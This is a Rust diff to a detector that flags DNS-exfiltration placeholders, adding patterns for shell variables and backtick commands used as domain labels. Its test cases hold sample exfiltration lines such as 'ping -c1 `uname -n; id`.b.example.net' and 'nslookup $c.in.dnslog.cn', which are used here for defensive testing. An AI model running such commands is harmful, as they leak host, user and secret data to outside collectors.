@@ -14,8 +14,26 @@ use crate::content::rule::Hit;
 use crate::content::rule::Strength::{Addressed, Mentioned};
 
 /// What fills such a name, or ends what is to be filled in.
-pub(super) const FILLERS: [&str; 9] =
-    ["$(", "%username%", "%computername%", "%userdomain%", "%userprofile%", "}}.", ">.", "nslookup ", "dig "];
+pub(super) const FILLERS: [&str; 18] = [
+    "$(",
+    "%username%",
+    "%computername%",
+    "%userdomain%",
+    "%userprofile%",
+    "}}.",
+    ">.",
+    "nslookup ",
+    "dig ",
+    "host $",
+    "hosts $",
+    "ping $",
+    "${hostname}.",
+    "${user}.",
+    "$hostname.",
+    "$user.",
+    "${username}.",
+    "`.",
+];
 
 /// The longest gap to fill in, bytes.
 const GAP_BYTES_MAX: usize = 48;
@@ -31,6 +49,9 @@ pub(super) fn filled(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
         b"}}." => gap(bytes, word, b'{'),
         b">." => gap(bytes, word, b'<'),
         b"$(" => command(bytes, word.start),
+        b"`." => quoted(bytes, word.start),
+        _ if written.ends_with(b"$") => asked(bytes, word.start..word.end - 1),
+        _ if written.starts_with(b"$") => own(bytes, word),
         _ if written.starts_with(b"%") => variable(bytes, word),
         _ => asked(bytes, word),
     }
@@ -91,6 +112,29 @@ fn variable(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
     Some(Hit { rule: rule::PLACEHOLDER, range: word.start..word.end + host.len(), strength: Addressed })
 }
 
+/// `${HOSTNAME}` as a label: machines call themselves so in their own domain, and nobody asks the name service that way.
+fn own(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
+    let host = domain(bytes.get(word.end - 1..)?)?;
+    let taken = takes(&host) || host::host(&host, b"") == Host::Collector || looks_up(bytes, word.start);
+    Some(Hit {
+        rule: rule::PLACEHOLDER,
+        range: word.start..word.end + host.len(),
+        strength: if taken { Addressed } else { Mentioned },
+    })
+}
+
+/// A command in backticks as a label.
+fn quoted(bytes: &[u8], close: usize) -> Option<Hit> {
+    let before = bytes.get(close.saturating_sub(GAP_BYTES_MAX)..close)?;
+    let line = before.rsplit(|byte| *byte == b'\n').next()?;
+    let open = line.iter().rposition(|byte| *byte == b'`')?;
+    let start = close - (line.len() - open);
+    let host = domain(bytes.get(close + 1..)?)?;
+    let inner = line.get(open..)?.to_ascii_lowercase();
+    let is_run = reads_machine(&inner) && looks_up(bytes, start);
+    is_run.then(|| Hit { rule: rule::PLACEHOLDER, range: start..close + 1 + host.len(), strength: Addressed })
+}
+
 /// `nslookup $x.a.example`: whatever the variable holds is asked for.
 fn asked(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
     if word.start.checked_sub(1).and_then(|at| bytes.get(at)).is_some_and(u8::is_ascii_alphanumeric) {
@@ -116,7 +160,7 @@ fn asked(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
 fn looks_up(bytes: &[u8], start: usize) -> bool {
     let before = bytes.get(start.saturating_sub(48)..start).unwrap_or_default();
     let line = before.rsplit(|byte| *byte == b'\n').next().unwrap_or_default();
-    ["dig ", "nslookup ", "drill ", "host ", "getent "]
+    ["dig ", "nslookup ", "drill ", "host ", "getent ", "ping "]
         .iter()
         .any(|word| memchr::memmem::find(line, word.as_bytes()).is_some())
 }
@@ -151,6 +195,8 @@ mod tests {
             "ping %COMPUTERNAME%.%USERNAME%.w.example.net",
             "{{api_key}}.leak.example.net",
             "nslookup $c.in.dnslog.cn",
+            "getent hosts ${HOSTNAME}-${USER}.b.example.net",
+            "ping -c1 `uname -n; id`.b.example.net",
         ] {
             assert_eq!(strength(text), Some(Addressed), "{text}");
         }
@@ -168,6 +214,8 @@ mod tests {
             "cp %USERPROFILE%.bak",
             "dig example.net",
             "digging $x.a.net",
+            "See `git`. Then",
+            "url=https://${HOSTNAME}.corp.example.net/",
         ] {
             assert_ne!(strength(text), Some(Addressed), "{text}");
         }
